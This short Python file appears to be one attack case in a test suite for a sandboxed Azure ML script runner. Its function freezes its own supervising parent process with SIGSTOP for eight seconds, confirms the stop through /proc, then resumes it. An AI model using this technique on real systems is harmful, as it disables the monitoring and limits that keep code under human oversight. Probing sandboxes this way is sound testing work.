"""Stops the process that watches over it, and goes on (by itself until 8 s)."""

import os
import signal
import time

from attack import attack


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    above = os.getppid()
    os.kill(above, signal.SIGSTOP)
    time.sleep(0.2)
    with open(f"/proc/{above}/stat") as stream:
        stopped = stream.read().rpartition(")")[2].split()[0] == "T"
    if not stopped:
        return ""
    time.sleep(8)
    os.kill(above, signal.SIGCONT)
    return "stopped its supervisor for 8 s"
